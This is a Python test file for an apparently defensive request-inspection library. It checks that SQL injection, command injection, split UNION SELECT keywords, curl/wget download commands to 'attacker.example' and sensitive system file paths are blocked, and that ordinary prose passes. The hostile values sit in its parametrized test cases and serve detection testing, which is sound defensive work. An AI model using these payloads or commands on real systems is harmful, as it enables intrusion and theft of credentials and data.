"""Generalizations of issue 15, item 4: an XML body's attribute values and texts are
read decoded, as the app's XML parser hands them over; ``UNION SELECT`` cut by
comments; a value that is a whole download command."""

from __future__ import annotations

import pytest

from pynomaly_security.detection import Inspector, RequestParts
from pynomaly_security.detection.extract import HeaderSelector, extract_fields
from tests.detection._helpers import form, query

XML = ((b"content-type", b"application/xml"),)


def xml(body: str) -> RequestParts:
    return RequestParts("POST", "/post", b"", XML, body.encode())


def test_xml_attribute_values_and_texts_are_fields_decoded() -> None:
    """Entities are decoded in the extra fields; the whole text is still read."""
    body = '<?xml version="1.0"?><r><a probe="x&quot; OR 1=1">t &lt;b&gt;</a></r>'
    fields = dict(extract_fields(xml(body), HeaderSelector([])))
    assert fields["body.a.probe"] == 'x" OR 1=1'
    assert fields["body.a"] == "t <b>"
    assert fields["body"].startswith("<?xml")


def test_xml_with_a_dtd_is_not_parsed() -> None:
    """A DOCTYPE (entity expansion) leaves the body to be read as text only."""
    body = '<!DOCTYPE r [<!ENTITY e "x">]><r a="&e;">&e;</r>'
    assert [name for name, _ in extract_fields(xml(body), HeaderSelector([]))] == ["path", "body"]


@pytest.mark.parametrize(
    "body",
    [
        pytest.param('<r><a probe="%22+WAITFOR+DELAY+%270:0:5%27--"></a></r>', id="sqli-attr"),
        pytest.param(
            '<r><a probe="x&quot; UNION SELECT password FROM users--"></a></r>', id="sqli"
        ),
        pytest.param("<r><cmd>;cat /etc/passwd</cmd></r>", id="cmdi-text"),
    ],
)
def test_attacks_inside_xml_are_blocked(body: str) -> None:
    """Attacks in attribute values or texts, entity-encoded or not, are blocked."""
    assert Inspector().inspect(xml(body)).blocked


def test_plain_xml_passes() -> None:
    """An ordinary XML document with attributes and text is not blocked."""
    body = '<?xml version="1.0"?><order id="17" currency="EUR"><item sku="A-1">Lamp</item></order>'
    assert not Inspector().inspect(xml(body)).blocked


@pytest.mark.parametrize(
    ("value", "blocked"),
    [
        pytest.param("uni/**/on sel/**/ect password from users", True, id="split-both"),
        pytest.param("1 union/**/all/**/sel/**/ect 1,2", True, id="split-select"),
        pytest.param("the union select committee met", False, id="prose"),
        pytest.param("curl https://attacker.example/x.sh", True, id="curl-value"),
        pytest.param("wget -q http://attacker.example/x", True, id="wget-value"),
        pytest.param("use curl https://example.org/docs to fetch it", False, id="curl-prose"),
    ],
)
def test_split_keywords_and_download_commands(value: str, blocked: bool) -> None:
    """Split UNION SELECT and whole-value download commands block; prose does not."""
    assert Inspector().inspect(query(value)).blocked is blocked
    assert Inspector().inspect(form(value)).blocked is blocked


@pytest.mark.parametrize(
    "value",
    [
        "/etc/mail/access",
        "/etc/wtmp",
        "/proc/config.gz",
        "/var/mysql.log",
        "\\mysql\\bin\\my.ini",
        "/master.passwd",
        "/Library/WebServer/Documents/index.html",
    ],
)
def test_system_files_and_commands_as_values_are_blocked(value: str) -> None:
    """Sensitive system files (CRS's restricted-files list) used as the whole value."""
    assert Inspector().inspect(query(value)).blocked


@pytest.mark.parametrize("value", ["check your mail settings", "see my.ini for the port"])
def test_the_same_words_in_prose_pass(value: str) -> None:
    """Mentioned in a sentence, they are not read."""
    assert not Inspector().inspect(query(value)).blocked
